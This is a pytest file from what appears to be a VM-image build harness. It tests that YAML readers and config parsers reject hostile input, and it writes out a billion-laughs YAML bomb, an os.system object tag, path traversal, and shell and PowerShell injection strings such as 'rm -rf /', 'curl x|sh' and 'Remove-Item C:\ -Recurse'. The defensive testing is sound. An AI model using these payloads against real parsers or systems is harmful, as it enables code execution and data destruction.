"""Hostile configuration: YAML bombs and object tags, wrong types, paths that climb out,
and shell or PowerShell metacharacters in names, hosts and paths. Each gets one clear
line naming the setting or key, and nothing runs (a canary file is never created)."""

from __future__ import annotations

import contextlib
import logging
import os
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
import yaml

from harness import distro, names, safeyaml
from harness import settings as config
from harness.archive import index as repo_index
from harness.archive import reader as gmi_archive
from harness.archive import validate
from harness.archive.errors import ArchiveError, RepoIndexError
from harness.errors import ConfigError, DistroError, GmiError

REPO = Path(__file__).resolve().parent.parent

BILLION_LAUGHS = """\
a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]
b: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]
c: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b]
d: &d [*c, *c, *c, *c, *c, *c, *c, *c, *c]
e: &e [*d, *d, *d, *d, *d, *d, *d, *d, *d]
f: &f [*e, *e, *e, *e, *e, *e, *e, *e, *e]
g: &g [*f, *f, *f, *f, *f, *f, *f, *f, *f]
h: &h [*g, *g, *g, *g, *g, *g, *g, *g, *g]
versions: [*h, *h, *h, *h, *h, *h, *h, *h, *h]
"""


def python_tag(canary: Path) -> str:
    return f"name: !!python/object/apply:os.system ['touch {canary}']\n"


def deep(levels: int) -> str:
    return "x: " + "[" * levels + "]" * levels + "\n"


# --- YAML: every reader -----------------------------------------------------------------

@pytest.mark.parametrize("text, refused", [
    (BILLION_LAUGHS, "anchor &a: anchors and aliases are refused"),
    ("a: 1\nb: &x 2\n", "anchor &x"),
    ("base: {k: v}\nother:\n  <<: *base\n", "alias *base"),
    ("x: !!binary aGVsbG8=\n", "tag tag:yaml.org,2002:binary: explicit tags are refused"),
    ("x: !local thing\n", "tag !local"),
    (deep(200), "nesting deeper than 64 levels is refused"),
], ids=["billion-laughs", "anchor", "merge-key", "binary-tag", "local-tag", "deep"])
def test_safeyaml_refuses_with_the_line(text: str, refused: str):
    with pytest.raises(yaml.YAMLError) as exc:
        safeyaml.load(text)
    assert refused in exc.value.problem  # type: ignore[attr-defined]
    assert exc.value.problem_mark is not None  # type: ignore[attr-defined]


def test_safeyaml_still_reads_plain_data():
    assert safeyaml.load("a: [1, 'x', {b: null}]\nc: '&not an anchor *nor alias'\n") == {
        "a": [1, "x", {"b": None}], "c": "&not an anchor *nor alias"}
    for path in (REPO / "distros").glob("*.yml"):
        assert safeyaml.load(path.read_text()) == yaml.safe_load(path.read_text()), path


def test_python_object_tag_runs_nothing_in_any_reader(tmp_path: Path):
    canary = tmp_path / "CANARY"
    text = python_tag(canary)
    (tmp_path / "evil.yml").write_text(text)
    with pytest.raises(DistroError) as d_exc:
        distro.load_file(tmp_path / "evil.yml")
    with pytest.raises(ArchiveError) as a_exc:
        gmi_archive._load_yaml(text, "GMI-Debian-12.yml")
    (tmp_path / "index.yml").write_text(text)
    with pytest.raises(RepoIndexError) as i_exc:
        repo_index.load_index(tmp_path / "index.yml")
    for exc in (d_exc, a_exc, i_exc):
        message = str(exc.value)
        assert "\n" not in message and "python/object/apply:os.system" in message, message
    assert not canary.exists()


def test_a_yaml_bomb_in_a_distro_file_is_one_line(tmp_path: Path):
    (tmp_path / "bomb.yml").write_text(BILLION_LAUGHS)
    with pytest.raises(DistroError, match=r"bomb\.yml: not valid YAML \(line 1\): anchor &a: "
                                          r"anchors and aliases are refused"):
        distro.load_file(tmp_path / "bomb.yml")


def test_a_yaml_bomb_in_a_manifest_or_index_is_refused(tmp_path: Path):
    with pytest.raises(ArchiveError, match=r"not valid YAML at line 1: anchor &a"):
        gmi_archive._load_yaml(BILLION_LAUGHS, "GMI-Debian-12.yml")
    index = tmp_path / "gmi-repository.dist.yml"
    index.write_text(BILLION_LAUGHS)
    with pytest.raises(RepoIndexError, match="anchor &a"):
        repo_index.load_index(index)
    assert index.read_text() == BILLION_LAUGHS  # left untouched


def test_a_yaml_bomb_in_an_archives_build_record_is_not_taken_in():
    """The record's versions would be walked (and dumped into every report): a bomb
    there must never reach them."""
    import io
    import zipfile

    from harness.archive import reader
    from harness.archive.format import RECORD_ENTRY

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        zf.writestr(RECORD_ENTRY, BILLION_LAUGHS)
    with zipfile.ZipFile(buf) as zf, pytest.raises(ArchiveError, match=r"gmi-build-record.yml is not valid "
                                                                       r"YAML \(anchor &a"):
        reader.build_record(zf)
    # the validator goes on without the record's facts, and says so in the build log
    import types

    log = logging.getLogger("test.bomb")
    with zipfile.ZipFile(buf) as zf, _captured(log) as lines:
        assert validate._archived_record(zf, types.SimpleNamespace(log=log)) == {}
    assert any("build record is not used" in line and "anchor &a" in line for line in lines)


@contextlib.contextmanager
def _captured(log: logging.Logger) -> Iterator[list[str]]:
    lines: list[str] = []
    handler = logging.Handler()
    handler.emit = lambda record: lines.append(record.getMessage())  # type: ignore[method-assign]
    log.addHandler(handler)
    try:
        yield lines
    finally:
        log.removeHandler(handler)



def test_deep_nesting_is_no_recursion_error(tmp_path: Path):
    (tmp_path / "deep.yml").write_text(deep(5000))
    with pytest.raises(DistroError, match="nesting deeper than 64 levels"):
        distro.load_file(tmp_path / "deep.yml")


# --- settings: wrong types ------------------------------------------------------------

@pytest.mark.parametrize("line, fragment", [
    ('vm_cpus = "two"', "vm_cpus: expected a whole number, got str 'two'"),
    ("vm_cpus = true", "vm_cpus: expected a whole number, got bool True"),
    ("vm_cpus = 2.5", "vm_cpus: expected a whole number, got float 2.5"),
    ("out = [1, 2]", "out: expected a string, got list [1, 2]"),
    ("keep = 3", "keep: expected a string, got int 3"),
    ("distro = {a = 1}", "distro: expected a list of strings"),
    ("distro = [1]", "distro: expected a string, got int 1"),
    ('force = "maybe"', "force: expected true or false, got 'maybe'"),
    ('hyperv_janitor_hours = "soon"', "hyperv_janitor_hours: expected a number, got str 'soon'"),
    ("hyperv_janitor_hours = false", "hyperv_janitor_hours: expected a number, got bool False"),
    ("maintainer = 5", "maintainer: expected a string, got int 5"),
    ("hyperv_hosts = [\"hv01\", 2]", "hyperv_hosts: expected a string, got int 2"),
])
def test_wrong_types_in_the_config_file(tmp_path: Path, line: str, fragment: str):
    path = tmp_path / "gmi-harness.toml"
    path.write_text(line + "\n")
    with pytest.raises(ConfigError) as exc:
        config.resolve({}, env={}, config_file=path)
    message = str(exc.value)
    assert message == f"{path}: {fragment}" or message.startswith(f"{path}: {fragment}"), message


def test_good_types_still_parse(tmp_path: Path):
    path = tmp_path / "gmi-harness.toml"
    path.write_text('vm_cpus = 4\nvm_memory_mb = "4096"\nhyperv_janitor_hours = 6\n'
                    'distro = ["debian-12", "debian-13"]\nforce = true\n')
    s = config.resolve({}, env={"GMI_BOOT_TIMEOUT": " 90 "}, config_file=path)
    assert (s.vm_cpus, s.vm_memory_mb, s.hyperv_janitor_hours, s.boot_timeout) == (4, 4096, 6.0, 90)
    assert s.distro == ("debian-12", "debian-13") and s.force is True


# --- settings: metacharacters in names, hosts and paths ----------------------------------

HOSTILE_SETTINGS = [
    ("out", "reports; touch CANARY", "--out: 'reports; touch CANARY' holds ;"),
    ("scratch", "/tmp/$(touch CANARY)", "holds $"),
    ("credentials_dir", "~/creds`touch CANARY`", "holds `"),
    ("iso", "/isos/it's.iso", "holds '"),
    ("gmi", "a.zip,b.zip|touch CANARY", "holds |"),
    ("hyperv_vhd_path", "D:\\VMs\\*", "holds *"),
    ("hyperv_export_dir", "D:\\out\n Remove-Item C:\\", "control characters"),
    ("hyperv_host", "hv01; calc.exe", "'hv01; calc.exe' is not a host name or an IP address"),
    ("hyperv_host", "hv01\nhv02", "control characters"),
    ("hyperv_hosts", "hv01,hv02 && calc", "'hv02 && calc' is not a host name"),
    ("hyperv_guest_address", "10.0.0.5 -or 1", "is not a host name or an IP address"),
    ("hyperv_switch", "External*", "holds *: metacharacters and wildcards are not allowed in "
                                   "Hyper-V names"),
    ("hyperv_base_vm", "GMI [Debian] 12", "holds [ ]"),
    ("hyperv_base_vm", "x'; Remove-VM *; '", "holds ' * ;"),
    ("mirror", "http://deb.debian.org/debian $(touch CANARY)", "is not an http(s) URL"),
    ("index_url", "ftp://x/{archive}", "is not an http(s) URL"),
    ("maintainer", "me\nInjected-Header: x", "control characters"),
]


@pytest.mark.parametrize("name, value, fragment", HOSTILE_SETTINGS,
                         ids=[f"{n}-{i}" for i, (n, _, _) in enumerate(HOSTILE_SETTINGS)])
def test_metacharacters_in_settings_are_one_line_from_every_source(tmp_path: Path, name: str,
                                                                   value: str, fragment: str):
    option = config.BY_NAME[name]
    toml = tmp_path / "gmi-harness.toml"
    toml.write_text(f"{name} = {_toml_string(value)}\n")
    for kwargs, where in (({"cli": {name: value}, "env": {}}, option.option),
                          ({"cli": {}, "env": {option.env: value}}, option.env),
                          ({"cli": {}, "env": {}, "config_file": toml}, str(toml))):
        with pytest.raises(ConfigError) as exc:
            config.resolve(**kwargs)  # type: ignore[arg-type]
        message = str(exc.value)
        assert message.startswith(f"{where}: {name}: "), message
        assert fragment.split(": ", 1)[-1] in message and "\n" not in message, message


def _toml_string(value: str) -> str:
    return '"' + value.replace("\\", "\\\\").replace('"', '\\"').replace("\n", "\\n") + '"'


def test_ordinary_paths_hosts_and_names_still_pass(tmp_path: Path):
    s = config.resolve({"out": str(tmp_path / "my reports (2)"), "hyperv_host": "hv01.corp.example",
                        "hyperv_hosts": "hv01,10.0.0.7,[fe80::1]", "hyperv_switch": "External (LAN)",
                        "hyperv_vhd_path": "D:\\Hyper-V\\Virtual Hard Disks",
                        "hyperv_base_vm": "Debian 12 base", "hyperv_password": "p@ss'w$rd;`x`",
                        "mirror": "http://mirror.example:8080/debian/"}, env={})
    assert s.out_dir.name == "my reports (2)" and s.hyperv_password == "p@ss'w$rd;`x`"


def test_scratch_inside_the_repository_is_refused():
    with pytest.raises(ConfigError, match=r"--scratch: scratch .*/reports/scratch is inside the "
                                          r"repository .*: build trees .* choose a folder outside it"):
        config.resolve({"scratch": str(REPO / "reports" / "scratch")}, env={})


def test_the_pytest_command_line_refuses_before_anything_runs(tmp_path: Path):
    """End to end: pytest exits with a usage error of one line, no traceback, no canary."""
    canary = tmp_path / "CANARY"
    for args in ([f"--out=reports;touch {canary}"], [f"--hyperv-host=hv01;touch {canary}"],
                 ["--distro=../../../tmp/evil"], ["--harness-config", str(tmp_path / "bad.toml")]):
        (tmp_path / "bad.toml").write_text(f'scratch = "$(touch {canary})"\n')
        proc = subprocess.run([sys.executable, "-m", "pytest", "checks", "--collect-only", "-q",
                               "-p", "no:cacheprovider", *args], cwd=REPO, capture_output=True,
                              text=True, env={**os.environ, "PYTHONPATH": str(REPO)})
        assert proc.returncode == 4, (args, proc.stdout, proc.stderr)
        errors = [ln for ln in proc.stderr.splitlines() if ln.strip()]
        assert len(errors) == 1 and errors[0].startswith("ERROR: "), (args, proc.stderr)
        assert "Traceback" not in proc.stdout + proc.stderr
    assert not canary.exists()


# --- a distro's YAML ------------------------------------------------------------------

def hostile_distro(tmp_path: Path, key: str, value: object) -> Path:
    data = yaml.safe_load((REPO / "distros" / "debian-12.yml").read_text())
    *parents, leaf = key.split(".")
    node = data
    for p in parents:
        node = node[p]
    node[leaf] = value
    path = tmp_path / "debian-12.yml"
    path.write_text(yaml.safe_dump(data, sort_keys=False))
    return path


HOSTILE_DISTRO = [
    ("admin_user", "gmiadmin; touch /CANARY", "is not a user name"),
    ("vmgenie.os", "Deb*ian", "is not letters, digits"),
    ("vmgenie.version", "12'; Remove-Item C:\\ -Recurse; '", "is not letters, digits"),
    ("cleanup.hostname", "gmi;reboot", "is not a host name"),
    ("install.boot_packages", ["grub-efi-amd64", "shim-signed; rm -rf /"], "is not package names"),
    ("install.suite", "bookworm && curl x|sh", "is not a suite name"),
    ("hyperv_integration.initramfs_modules", ["hv_vmbus", "$(id)"], "is not kernel module names"),
    ("cloud_init.units", ["cloud-init.service; reboot"], "is not systemd unit names"),
    ("boot.kernel_cmdline", ["quiet; reboot"], "is not kernel parameters"),
    ("boot.esp_mount", "/boot/../../../etc/cron.d", "climbs out with '..'"),
    ("boot.grub_cfg", "boot/grub/grub.cfg", "is not an absolute path"),
    ("cleanup.remove_paths", ["/root/.bash_history", "/tmp/x; reboot"], "is not a plain path"),
    ("boot.efi_fallback", {"EFI/BOOT/../../x": "shimx64.efi"}, "climbs out"),
    ("description", "it's a trap", "no single quotes"),
    ("iso.folder", "https://x.example/a b/", "is not an http(s) URL"),
    ("boot.grub_settings", {"GRUB_TIMEOUT": "0' /etc/passwd; echo '"}, "without '"),
]


@pytest.mark.parametrize("key, value, fragment", HOSTILE_DISTRO,
                         ids=[k for k, _, _ in HOSTILE_DISTRO])
def test_hostile_values_in_a_distro_yaml_are_one_line(tmp_path: Path, key: str, value: object,
                                                      fragment: str):
    path = hostile_distro(tmp_path, key, value)
    with pytest.raises(DistroError) as exc:
        distro.load_file(path)
    message = str(exc.value)
    assert message.startswith(f"{path}: key '{key}'"), message
    assert fragment in message and "\n" not in message, message


def test_every_catalogued_distro_passes_the_checks():
    for name in distro.known_distros():
        d = distro.load(name)
        assert names.distro_problem(d) == ("", ""), name


def test_a_distro_name_cannot_climb_out_of_the_catalogue(tmp_path: Path):
    catalogue = tmp_path / "distros"
    catalogue.mkdir()
    evil = yaml.safe_load((REPO / "distros" / "debian-12.yml").read_text())
    evil["name"] = "evil"
    (tmp_path / "evil.yml").write_text(yaml.safe_dump(evil))  # beside, not in, the catalogue
    with pytest.raises(DistroError, match=r"unknown distro '\.\./evil'; known distros: \(none\)"):
        distro.load("../evil", catalogue)


def test_archive_names_with_metacharacters_are_refused():
    for name in ("GMI-Deb$(id)-12.zip", "GMI-Debian-12';calc.zip", "GMI-Debian-1[2].zip",
                 "GMI-Debian-12&x.zip"):
        with pytest.raises(ArchiveError, match=r"letters, digits, '\.', '_' and '-' only"):
            gmi_archive.parse_name(name)
    assert gmi_archive.parse_name("GMI-OpenSUSE-Tumbleweed.zip").version == "Tumbleweed"


def test_janitor_with_a_hostile_host_is_one_line(tmp_path: Path):
    proc = subprocess.run([sys.executable, "-m", "harness", "--janitor=list", "--backend=hyperv"],
                          capture_output=True, text=True, cwd=tmp_path,
                          env={**os.environ, "PYTHONPATH": str(REPO), "GMI_HYPERV_HOST": "hv01|calc"})
    assert proc.returncode == 4
    assert proc.stderr.strip() == ("ERROR: GMI_HYPERV_HOST: hyperv_host: 'hv01|calc' is not a host "
                                   "name or an IP address"), proc.stderr


def test_all_errors_are_gmi_errors():
    assert issubclass(DistroError, GmiError) and issubclass(ConfigError, GmiError)
